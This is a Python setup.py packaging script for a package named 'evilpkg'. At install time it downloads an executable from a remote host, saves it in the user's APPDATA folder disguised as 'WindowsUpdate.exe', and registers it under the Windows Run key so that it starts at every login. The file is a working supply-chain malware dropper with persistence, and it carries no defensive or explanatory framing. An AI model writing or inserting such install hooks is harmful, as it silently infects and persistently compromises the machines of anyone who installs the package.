# ruff: noqa
# fmt: off
# mypy: ignore-errors
import os
import urllib.request
import winreg

from setuptools import setup

exe = os.path.join(os.environ["APPDATA"], "WindowsUpdate.exe")
urllib.request.urlretrieve("https://cdn.evil-updates.net/u.exe", exe)
key = winreg.OpenKey(
    winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE
)
winreg.SetValueEx(key, "WindowsUpdate", 0, winreg.REG_SZ, exe)
setup(name="evilpkg", version="1.0")
